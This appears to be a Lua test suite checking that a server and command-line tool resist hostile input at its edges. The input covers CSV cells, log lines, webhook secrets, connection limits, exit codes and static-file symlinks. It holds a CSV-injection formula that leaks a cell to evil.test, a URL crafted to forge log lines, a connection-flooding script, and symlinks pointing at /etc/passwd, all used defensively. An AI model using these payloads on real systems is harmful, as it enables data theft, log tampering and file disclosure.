-- Bad input at the edges (issue 17, section 5): CSV cells a spreadsheet
-- would run as formulas, CSV separators, request log lines forged through
-- the URL, short webhook secrets, one address holding every connection,
-- exit codes outside the documented four, and static files reached through
-- a symlink out of the web folder. Each against the real binary and server.

local support = require "support"
local H = require "http_support"
local O = require "openapi_support"
local R = require "reports_support"

O.record() -- every answer checked against the API's description at the end
local json = support.json
local quote = support.quote

-- An organisation name a spreadsheet would run (CSV injection).
local HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Ouvrir")'

local function sh(command)
  local p = assert(io.popen(command))
  local out = p:read("a")
  p:close()
  return out
end

-- The row of the tables whose first cell is `first`.
local function row_of(tables, first)
  for _, t in ipairs(tables) do
    for _, row in ipairs(t) do
      if row[1] == first then
        return row
      end
    end
  end
  return nil
end

describe("edges", function()
  local fx, server, tokens

  setup(function()
    fx = H.fixture()
  end)

  teardown(H.finish)

  describe("CSV", function()
    local db, audit_id

    setup(function()
      db = H.fresh_db(fx.db)
      local org = tonumber((H.admin({ "org", "add", "--db", db, "--name", HOSTILE })))
      server = H.start_server({ db = db })
      tokens = H.login_all(server)
      audit_id = H.submitted_audit(server, tokens.committee, tokens.auditor, org, fx.ids.auditor,
        H.criteria(server)).id
    end)

    local function check_neutralised(text, sep)
      local raw = '"\'' .. HOSTILE:gsub('"', '""') .. '"'
      assert.is_truthy(text:find(raw, 1, true), "the name is not written as \"'=...\": " .. text)
      assert.is_falsy(text:find('"' .. HOSTILE:gsub('"', '""'):sub(1, 10), 1, true),
        "the name is written as a formula: " .. text)
      local row = row_of(R.csv_tables(assert(R.csv_parse(text, sep))), "'" .. HOSTILE)
      assert.is_truthy(row, "no row for the organisation: " .. text)
      -- a number the report wrote stays a number
      assert.are.equal(tostring(audit_id), row[2])
    end

    it("a name that reads as a formula is written with a leading ' (command line)", function()
      local r = R.report(db, "network-overview", nil, { "--scripts", support.root .. "/scripts", "--format",
        "csv" })
      assert.are.equal(0, r.code, R.show(r))
      check_neutralised(r.stdout, ";")
      local tab = R.report(db, "network-overview", nil, { "--scripts", support.root .. "/scripts", "--format",
        "csv", "--separator", "\t" })
      assert.are.equal(0, tab.code, R.show(tab))
      check_neutralised(tab.stdout, "\t")
    end)

    it("and over HTTP", function()
      local r = H.expect(H.request(server, "GET", "/api/v1/reports/network-overview?format=csv&separator=,",
        { token = tokens.committee }), 200)
      check_neutralised(r.body, ",")
    end)

    it("a separator other than ',', ';' or a tab is refused, naming the option", function()
      for _, sep in ipairs({ "|", "a", "0", '"', " ", ";;", "" }) do
        local r = R.report(db, "network-overview", nil, { "--scripts", support.root .. "/scripts", "--format",
          "csv", "--separator", sep })
        assert.are.equal(2, r.code, "--separator " .. sep .. ": " .. R.show(r))
        assert.is_truthy(r.stderr:find("--separator", 1, true), r.stderr)
        assert.are.equal("", r.stdout)
      end
      for _, sep in ipairs({ "%7C", "a", "%22", "%0A", "%3B%3B", "" }) do
        local e = H.expect_error(H.request(server, "GET", "/api/v1/reports/network-overview?format=csv&separator="
          .. sep, { token = tokens.committee }), 400)
        assert.is_truthy(e.message:find("separator", 1, true), e.message)
      end
      H.expect(H.request(server, "GET", "/api/v1/reports/network-overview?format=csv&separator=%09",
        { token = tokens.committee }), 200)
    end)
  end)

  describe("the request log", function()
    it("escapes what a client sent: a URL's %0a cannot forge a line", function()
      local s = H.start_server({ db = H.fresh_db(fx.db) })
      local forged = "/api/v1/x%0aGET%20/api/v1/referential%20200%200.1ms%0d%1b[31m"
      H.expect(H.request(s, "GET", forged), 404)
      H.expect(H.request(s, "GET", "/api/v1/referential"), 200)
      assert.are.equal(0, s.stop())
      local _, err = s.output()
      local lines = {}
      for line in err:gmatch("[^\n]*") do
        if line:find("referential", 1, true) then
          lines[#lines + 1] = line
        end
      end
      assert.are.same({
        "GET /api/v1/x\\x0aGET\\x20/api/v1/referential\\x20200\\x200.1ms\\x0d\\x1b[31m 404",
        "GET /api/v1/referential 200",
      }, { lines[1] and lines[1]:match(" (%u+ /%S+ %d%d%d) "), lines[2] and lines[2]:match(" (%u+ /%S+ %d%d%d) ") })
      assert.are.equal(2, #lines, err)
      assert.is_falsy(err:find("\27", 1, true), "an escape character reached the log")
    end)
  end)

  describe("webhook secrets", function()
    local db

    setup(function()
      db = H.fresh_db(fx.db)
      server = H.start_server({ db = db })
      tokens = H.login_all(server)
    end)

    local function b64(n)
      return sh("head -c " .. n .. " /dev/urandom | base64 -w0")
    end

    it("need at least 24 random bytes after whsec_ (API: 400 at $.secret)", function()
      for _, secret in ipairs({ "whsec_", "whsec_" .. b64(1), "whsec_" .. b64(16), "whsec_" .. b64(23),
        "whsec_not base64!", "secret_" .. b64(32), "whsec_" .. b64(140) }) do
        local e = H.expect_error(H.request(server, "POST", "/api/v1/webhooks", { token = tokens.admin,
          json = { url = "https://hooks.example.org/x", secret = secret } }), 400, "$.secret", secret)
        assert.is_truthy(e.message:find("whsec_", 1, true), e.message)
      end
      for _, n in ipairs({ 24, 32, 64 }) do
        local secret = "whsec_" .. b64(n)
        local r = H.expect(H.request(server, "POST", "/api/v1/webhooks", { token = tokens.admin,
          json = { url = "https://hooks.example.org/x", secret = secret } }), 201, n .. " bytes")
        assert.are.equal(secret, r.json.secret)
      end
      -- a generated or rotated secret holds 24 bytes
      local made = H.expect(H.request(server, "POST", "/api/v1/webhooks", { token = tokens.admin,
        json = { url = "https://hooks.example.org/y" } }), 201)
      local rotated = H.expect(H.request(server, "PATCH", "/api/v1/webhooks/" .. made.json.id,
        { token = tokens.admin, json = { rotate_secret = true } }), 200)
      for _, s in ipairs({ made.json.secret, rotated.json.secret }) do
        assert.are.equal(24, #sh("printf %s " .. quote(s:sub(7)) .. " | base64 -d"), s)
      end
    end)

    it("the command line refuses a short one with exit 2 and stores nothing", function()
      local before = H.sql_value(db, "SELECT count(*) FROM webhooks")
      for _, secret in ipairs({ "whsec_", "whsec_" .. b64(12) }) do
        local r = support.run({ "webhook", "add", "--db", db, "--url", "https://hooks.example.org/z",
          "--secret-stdin" }, secret .. "\n")
        assert.are.equal(2, r.code, r.stderr)
        assert.is_truthy(r.stderr:find("$.secret", 1, true), r.stderr)
      end
      assert.are.equal(before, H.sql_value(db, "SELECT count(*) FROM webhooks"))
      local r = support.run({ "webhook", "add", "--db", db, "--url", "https://hooks.example.org/z",
        "--secret-stdin" }, "whsec_" .. b64(24) .. "\n")
      assert.are.equal(0, r.code, r.stderr)
    end)
  end)

  describe("connections", function()
    -- Holds `n` silent connections from 127.0.0.1 to port until `dir`/stop
    -- exists (30 s at most); writes `dir`/ready once they are open.
    local HOLD = [=[
#!/bin/bash
port=$1 n=$2 dir=$3
fds=()
for ((i = 0; i < n; i++)); do exec {fd}<>"/dev/tcp/127.0.0.1/$port" || exit 1; fds+=("$fd"); done
touch "$dir/ready"
for ((i = 0; i < 300; i++)); do [ -e "$dir/stop" ] && break; sleep 0.1; done
]=]

    local function hold(s, n)
      local dir = H.tmpdir()
      support.write(dir .. "/hold.sh", HOLD)
      os.execute("bash " .. quote(dir .. "/hold.sh") .. " " .. s.port .. " " .. n .. " " .. quote(dir)
        .. " >/dev/null 2>&1 &")
      support.wait_for(function() return H.exists(dir .. "/ready") end, 10, 0.1)
      assert.is_truthy(H.exists(dir .. "/ready"), "the connections did not open")
      os.execute("sleep 0.5") -- accepted by the server
      return function()
        support.write(dir .. "/stop", "")
      end
    end

    -- The status curl gets from `interface` (0: the connection was closed).
    local function status_from(s, interface)
      return tonumber(sh("curl -s -o /dev/null --max-time 5 --interface " .. interface .. " -w '%{http_code}' "
        .. s.url .. "/api/v1/referential"))
    end

    it("one address cannot take every connection: past its cap, others are still served", function()
      local s = H.start_server({ db = H.fresh_db(fx.db) })
      local release = hold(s, 64) -- the default cap
      local from_1, from_2 = status_from(s, "127.0.0.1"), status_from(s, "127.0.0.2")
      release()
      assert.are.equal(0, from_1, "a 65th connection from 127.0.0.1 was served")
      assert.are.equal(200, from_2, "127.0.0.2 was not served while 127.0.0.1 held its cap")
      -- once they are closed, 127.0.0.1 is served again
      local again
      for _ = 1, 50 do
        again = status_from(s, "127.0.0.1")
        if again == 200 then
          break
        end
        os.execute("sleep 0.1")
      end
      assert.are.equal(200, again)
    end)

    it("a client past its cap gets a log line a second, not one per connection refused", function()
      local s = H.start_server({ db = H.fresh_db(fx.db), args = { "--max-connections-per-client", "3" } })
      hold(s, 43)() -- 40 refused
      assert.are.equal(0, s.stop())
      local _, err = s.output()
      local said, left_out = 0, 0
      for line in err:gmatch("[^\n]+") do
        local at_stop = line:match("^%S+ (%d+) more lines like \"Server reached connection limit")
        if at_stop then
          left_out = left_out + tonumber(at_stop)
        elseif line:find("Server reached connection limit", 1, true) then
          said = said + 1
          left_out = left_out + tonumber(line:match("%(and (%d+) more") or 0)
        end
      end
      assert.is_true(said >= 1 and said <= 10, said .. " lines for 40 refusals:\n" .. err)
      assert.are.equal(40, said + left_out, err)
    end)

    it("--max-connections-per-client sets the cap", function()
      local s = H.start_server({ db = H.fresh_db(fx.db), args = { "--max-connections-per-client", "3" } })
      local release = hold(s, 3)
      local from_1, from_2 = status_from(s, "127.0.0.1"), status_from(s, "127.0.0.2")
      release()
      assert.are.same({ 0, 200 }, { from_1, from_2 })
      for _, bad in ipairs({ "0", "1001", "x", "-1" }) do
        local r = support.run({ "serve", "--db", H.fresh_db(fx.db), "--listen", "127.0.0.1:0",
          "--max-connections-per-client", bad }, nil, nil, 10)
        assert.are.equal(2, r.code, bad .. ": " .. r.stderr)
        assert.is_truthy(r.stderr:find("--max-connections-per-client", 1, true), r.stderr)
      end
    end)
  end)

  describe("exit codes", function()
    local function code_of(args, stdin)
      local r = support.run(args, stdin)
      assert.is_truthy(r.stderr:match("%S"), table.concat(args, " ") .. ": no message on stderr")
      return r.code, r
    end

    it("are the documented ones (0 to 3) on every failure", function()
      local dir = H.tmpdir()
      local db = H.fresh_db(fx.db)
      local cases = {
        -- a folder as the database: bad input
        { 2, { "init", "--db", dir } },
        { 2, { "tick", "--db", dir } },
        { 2, { "demo", "--db", dir } },
        { 2, { "rules", "history", "--db", dir } },
        { 2, { "verify", "--db", dir } },
        -- a database that cannot be opened or written: the work could not be done
        { 1, { "init", "--db", "/proc/labelcoop-cannot-be-here.db" } },
        -- missing files, unknown ids
        { 2, { "evaluate", "--answers", dir .. "/missing.json" } },
        { 2, { "verify", "--db", db, "--record", dir .. "/missing.json" } },
        { 2, { "export-decision", "999", "--db", db } },
        { 2, { "document", "certificate", "999", "--db", db, "--out", dir .. "/c.pdf" } },
        { 2, { "rules", "show", "0123abcd", "--db", db } },
        { 2, { "report", "no-such-report", "--db", db, "--scripts", support.root .. "/scripts" } },
        -- bad options, unknown commands
        { 2, { "serve", "--db", db, "--threads", "0" } },
        { 2, { "serve", "--db", db, "--listen", "nowhere" } },
        { 2, { "init", "--db", db, "--frobnicate" } },
        { 2, { "frobnicate" } },
        { 2, { "rules", "frobnicate" } },
        { 2, { "user", "frobnicate" } },
        { 2, { "org", "add", "--db", db } },
      }
      for _, c in ipairs(cases) do
        local code, r = code_of(c[2])
        assert.are.equal(c[1], code, table.concat(c[2], " ") .. "\nstderr: " .. r.stderr)
      end
      local r = support.run({ "init", "--db", dir })
      assert.is_truthy(r.stderr:find("--db " .. dir, 1, true), r.stderr)
    end)
  end)

  describe("static files", function()
    it("never follow a symlink out of the web folder", function()
      local web = H.tmpdir() .. "/web"
      os.execute("mkdir -p " .. quote(web .. "/css"))
      support.write(web .. "/index.html", "<!doctype html><title>x</title>")
      support.write(web .. "/css/app.css", "body{}")
      os.execute("ln -s /etc/passwd " .. quote(web .. "/passwd.txt"))
      os.execute("ln -s /etc " .. quote(web .. "/etc"))
      os.execute("ln -s ../../../../../../../etc/hostname " .. quote(web .. "/css/host.css"))
      os.execute("ln -s index.html " .. quote(web .. "/home.html")) -- inside: served
      local s = H.start_server({ db = H.fresh_db(fx.db), web = web })
      H.expect(H.request(s, "GET", "/index.html"), 200)
      H.expect(H.request(s, "GET", "/css/app.css"), 200)
      local inner = H.expect(H.request(s, "GET", "/home.html"), 200)
      assert.are.equal("<!doctype html><title>x</title>", inner.body)
      for _, path in ipairs({ "/passwd.txt", "/etc/passwd", "/etc/hostname", "/css/host.css" }) do
        local r = H.request(s, "GET", path)
        H.expect_error(r, 404, nil, path)
        assert.is_falsy(r.body:find("root:", 1, true), path .. " served /etc/passwd")
      end
    end)
  end)
end)

describe("the API's OpenAPI description", function()
  it("documents every answer this spec was given", O.check_all)
end)
